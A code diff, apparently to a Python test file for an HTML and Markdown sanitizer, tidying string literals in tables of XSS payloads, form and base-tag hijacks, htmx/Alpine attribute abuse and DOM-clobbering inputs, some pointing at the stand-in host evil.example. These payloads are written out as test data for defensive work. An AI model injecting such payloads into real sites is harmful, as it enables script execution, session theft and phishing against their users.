@@ -35,7 +35,7 @@ HANDLERS = {
     "img onerror, backticks": f"<img src=`x`onerror={PWNED}>",
     "img onerror, line feeds": f"<img\n src=x\n\fonerror\n=\n{PWNED}>",
     "img onerror, no end": f"<img src=x onerror={PWNED} ",
-    "img onerror, entity": f"<img src=x onerror=&#119;indow.pwned=1>",
+    "img onerror, entity": "<img src=x onerror=&#119;indow.pwned=1>",
     "svg onload": f"<svg onload={PWNED}>",
     "svg onload, slash": f"<svg/onload={PWNED}>",
     "body onload": f"<body onload={PWNED}>",
@@ -73,7 +73,7 @@ ADDRESSES = {
     "link, ping": f'<a href="{EVIL}" ping="{EVIL}/ping" download>x</a>',
     "area": f'<map name=m><area href="{JS}"></map><img usemap=#m>',
     "iframe src": f'<iframe src="{JS}"></iframe>',
-    "iframe srcdoc": f'<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+    "iframe srcdoc": '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
     "object": f'<object data="{JS}"></object>',
     "embed": f'<embed src="{JS}">',
     "applet": f'<applet code="{EVIL}/x.class"></applet>',
@@ -113,7 +113,7 @@ TAKEOVERS = {
     "form of our own": '<form action="/-/profile" method=post><button>x</button></form>',
     "form script": f'<form action="{JS}"><input type=submit>',
     "formaction": f'<button formaction="{JS}">x</button><input type=submit formaction="{JS}">',
-    "form attribute": '<button form=search formaction=https://evil.example>x</button>',
+    "form attribute": "<button form=search formaction=https://evil.example>x</button>",
     "dialog": "<dialog open>Your session has ended</dialog>",
     "base": f'<base href="{EVIL}/">',
     "base target": "<base target=_parent>",
@@ -137,7 +137,7 @@ TAKEOVERS = {
 }
 
 BEHAVIOURS = {
-    "rails": f'<a data-method=delete data-remote=true data-confirm=x href="/-/x">x</a>',
+    "rails": '<a data-method=delete data-remote=true data-confirm=x href="/-/x">x</a>',
     "htmx": f'<div hx-get="{EVIL}" hx-trigger=load hx-on:load="{PWNED}" hx-swap=outerHTML>x</div>',
     "htmx data": f'<div data-hx-get="{EVIL}" data-hx-trigger=load>x</div>',
     "alpine": f'<div x-data x-init="{PWNED}" x-html="1" :onclick="{PWNED}">x</div>',
@@ -157,14 +157,14 @@ BEHAVIOURS = {
 }
 
 CLOBBERS = {
-    "id of an element of ours": '<div id=main></div><a id=comment-form href=x></a>',
+    "id of an element of ours": "<div id=main></div><a id=comment-form href=x></a>",
     "globals": "<a id=pwned href=x></a><form id=defaultView><input id=fetch></form>",
     "document members": "<img name=getElementById><img name=cookie><form name=body>x</form>",
     "form members": "<form id=f><input name=action><input name=submit></form>",
     "collection": "<a id=config></a><a id=config name=url href='https://evil.example'></a>",
     "frame name": "<iframe name=opener></iframe><object name=self></object>",
     "markdown heading id": "# main\n\n## body {#main}\n\n# pwned",
-    "footnote id": "[^main]\n\n[^main]: x\n\n[^x\" onclick=y]: z",
+    "footnote id": '[^main]\n\n[^main]: x\n\n[^x" onclick=y]: z',
     "aria": "<div role=alert aria-live=assertive aria-labelledby=main>x</div>",
 }
 
